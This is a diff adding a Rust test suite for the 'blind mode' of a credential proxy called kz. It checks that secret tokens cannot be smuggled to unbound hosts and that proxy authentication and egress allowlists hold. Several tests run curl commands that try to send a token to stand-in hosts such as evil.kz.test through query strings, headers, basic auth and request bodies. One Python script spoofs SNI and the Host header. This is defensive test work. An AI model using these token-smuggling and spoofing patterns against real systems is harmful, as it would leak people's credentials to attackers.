@@ -1,0 +1,214 @@
+//! Blind mode under attack: every refusal is checked for what reached the upstream (never a
+//! real value towards a host the secret is not bound to) and what the child saw.
+
+use crate::blind::{Blind, REAL_GH, REAL_OTHER};
+
+fn upstream_never_saw_gh(b: &Blind) {
+    for r in b.up.requests() {
+        if !r.all().contains("other.kz.test") {
+            continue;
+        }
+        assert!(
+            !r.all().contains(REAL_GH),
+            "GH's value reached other.kz.test:\n{}",
+            r.all()
+        );
+    }
+}
+
+#[test]
+fn token_smuggled_to_a_host_bound_to_another_secret_is_refused() {
+    let b = Blind::new();
+    let (code, out, err) = b.run_sh(
+        r#"
+for args in \
+  "$OTHER_UP/q?t=$GH" \
+  "-H X-Custom:$GH $OTHER_UP/h" \
+  "-u user:$GH $OTHER_UP/basic" \
+  "-H Content-Type:application/json --data {\"t\":\"$GH\"} $OTHER_UP/json" \
+  "-H Transfer-Encoding:chunked --data-binary prefix-$GH-suffix $OTHER_UP/chunked"; do
+  curl -sS -o /dev/null -w '%{http_code}\n' $args
+done
+curl -sS "$OTHER_UP/q?t=$GH"
+"#,
+    );
+    assert_eq!(code, 0, "{out}{err}");
+    let codes: Vec<&str> = out.lines().take(5).collect();
+    assert_eq!(codes, vec!["403"; 5], "{out}");
+    assert!(
+        out.contains("kz: refused: token of secret GH may not be sent to other.kz.test"),
+        "{out}"
+    );
+    assert!(out.contains("(it is bound to api.kz.test:"), "{out}");
+    upstream_never_saw_gh(&b);
+    assert!(
+        b.up.requests().iter().all(|r| !r.all().contains("KZ_TOK_")),
+        "refused requests are not forwarded at all"
+    );
+    let refusals = b
+        .audit()
+        .into_iter()
+        .filter(|l| l["event"] == "refused")
+        .count();
+    assert!(refusals >= 5, "each refusal audited");
+}
+
+#[test]
+fn the_own_token_of_a_bound_host_still_works_there() {
+    let b = Blind::new();
+    let (code, out, err) =
+        b.run_sh(r#"curl -sS --fail "$OTHER_UP/echo" -H "Authorization: Bearer $OTHER""#);
+    assert_eq!(code, 0, "{out}{err}");
+    assert_eq!(
+        b.up.last().header("authorization"),
+        Some(format!("Bearer {REAL_OTHER}").as_str())
+    );
+}
+
+#[test]
+fn tokens_in_plain_http_to_an_unbound_host_are_refused() {
+    let b = Blind::new();
+    // Absolute-form plain HTTP goes through kz's swap engine, which refuses every token there.
+    let (code, out, _) =
+        b.run_sh(r#"curl -sS -w '\n%{http_code}\n' "http://evil.kz.test:9/x?k=$GH""#);
+    assert_eq!(code, 0);
+    assert!(
+        out.contains("403") && out.contains("token of secret GH may not be sent to evil.kz.test"),
+        "{out}"
+    );
+}
+
+#[test]
+fn an_unbound_host_is_tunnelled_and_only_ever_sees_the_token() {
+    let b = Blind::new();
+    // The client trusts the upstream's own CA: an unbound host is never decrypted by kz.
+    let (code, out, err) = b.run_sh(
+        r#"curl -sS --fail --cacert "$TEST_CA" "$EVIL_UP/echo" -H "Authorization: Bearer $GH""#,
+    );
+    assert_eq!(code, 0, "{out}{err}");
+    let seen = b.up.last();
+    assert!(
+        seen.header("authorization")
+            .unwrap()
+            .starts_with("Bearer KZ_TOK_"),
+        "tunnelled untouched"
+    );
+    assert!(!seen.all().contains(REAL_GH));
+    assert!(b
+        .audit()
+        .iter()
+        .any(|l| l["event"] == "tunnel" && l["host"] == "evil.kz.test"));
+}
+
+#[test]
+fn host_header_must_match_the_connect_target_and_sni() {
+    let b = Blind::new();
+    let (code, out, _) = b.run_sh(r#"curl -sS -w '\n%{http_code}\n' "$UP/echo" -H "Host: other.kz.test" -H "Authorization: Bearer $OTHER""#);
+    assert_eq!(code, 0);
+    assert!(out.contains("421"), "{out}");
+    assert!(out.contains("does not match"), "{out}");
+    // SNI that disagrees with the CONNECT target.
+    let script = r#"
+import os, socket, ssl, base64
+cred, hostport = os.environ["HTTPS_PROXY"][len("http://"):].split("@")
+ph, pp = hostport.split(":")
+port = int(os.environ["UP"].rsplit(":", 1)[1])
+s = socket.create_connection((ph, int(pp)))
+s.sendall(("CONNECT api.kz.test:%d HTTP/1.1\r\nProxy-Authorization: Basic %s\r\n\r\n" % (port, base64.b64encode(cred.encode()).decode())).encode())
+s.recv(4096)
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+t = ctx.wrap_socket(s, server_hostname="other.kz.test")
+t.sendall(("GET /echo HTTP/1.1\r\nHost: other.kz.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % os.environ["OTHER"]).encode())
+print(t.recv(4096).split(b"\r\n")[0].decode())
+"#;
+    let (code, out, err) = b.run_sh(&format!("\"$PY\" -c '{}'", script.replace('\'', "'\\''")));
+    assert_eq!(code, 0, "{out}{err}");
+    assert!(out.contains("421"), "{out}");
+    assert!(
+        b.up.requests()
+            .iter()
+            .all(|r| !r.all().contains(REAL_OTHER)),
+        "nothing forwarded"
+    );
+}
+
+#[test]
+fn the_proxy_demands_its_credential() {
+    let b = Blind::new();
+    let (code, out, _) = b.run_sh(
+        r#"P=${HTTPS_PROXY##*@}
+curl -sS -o /dev/null -w '%{http_code}\n' -x "http://$P" "http://evil.kz.test:9/"
+curl -sS -o /dev/null -w '%{http_code}\n' -x "http://kz:wrong@$P" "http://evil.kz.test:9/"
+curl -sS -o /dev/null -w '%{http_code}\n' -p -x "http://$P" "$UP/" 2>&1 | tail -1"#,
+    );
+    assert_eq!(code, 0);
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(&lines[..2], &["407", "407"], "{out}");
+    assert!(b.up.requests().is_empty(), "nothing reached the upstream");
+}
+
+#[test]
+fn private_upstreams_need_allow_private() {
+    let b = Blind::with_network("");
+    let (code, out, err) = b.run_sh(
+        r#"curl -sS -w '\n%{http_code}\n' "$UP/echo" -H "Authorization: Bearer $GH"; curl -sS -w '\n%{http_code}\n' "$EVIL_UP/x"; true"#,
+    );
+    assert_eq!(code, 0);
+    assert!(out.contains("403"), "{out}");
+    assert!(
+        out.contains("resolves to non-public address 127.0.0.1"),
+        "{out}"
+    );
+    assert!(
+        err.contains("CONNECT tunnel failed, response 403"),
+        "tunnels are refused too: {err}"
+    );
+    assert!(
+        b.up.requests().is_empty(),
+        "nothing reached the private upstream"
+    );
+}
+
+#[test]
+fn network_allow_is_an_egress_allowlist() {
+    let b = Blind::with_network("allow_private = true\nallow = [\"api.kz.test\"]\n");
+    let (code, out, _) = b.run_sh(
+        r#"curl -sS -o /dev/null -w '%{http_code}\n' "$UP/ok" -H "Authorization: Bearer $GH"
+curl -sS -o /dev/null -w '%{http_code}\n' "$EVIL_UP/x" 2>/dev/null || echo blocked
+curl -sS -w '\n%{http_code}\n' "http://evil.kz.test:9/x""#,
+    );
+    assert_eq!(code, 0);
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(lines[0], "200", "{out}");
+    assert!(
+        lines[1] == "blocked" || lines[1] == "000" || lines[1] == "403",
+        "{out}"
+    );
+    assert!(out.contains("is not in [network] allow"), "{out}");
+    assert_eq!(b.up.requests().len(), 1);
+}
+
+#[test]
+fn echoed_credentials_are_scrubbed_even_gzip_and_inside_basic() {
+    let b = Blind::new();
+    let (code, out, err) = b.run_sh(
+        r#"curl -sS --compressed "$UP/echo-gzip" -H "Authorization: Bearer $GH"; echo ---; curl -sS -i "$UP/echo" -u "user:$GH""#,
+    );
+    assert_eq!(code, 0, "{out}{err}");
+    assert!(
+        out.contains("authorization: Bearer KZ_TOK_"),
+        "gzip body decoded and scrubbed: {out}"
+    );
+    assert_no_value_anywhere(&out, &err);
+}
+
+fn assert_no_value_anywhere(out: &str, err: &str) {
+    use base64::Engine;
+    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("user:{REAL_GH}"));
+    for needle in [REAL_GH.to_string(), b64] {
+        assert!(
+            !out.contains(&needle) && !err.contains(&needle),
+            "leaked {needle}:\n{out}"
+        );
+    }
+}
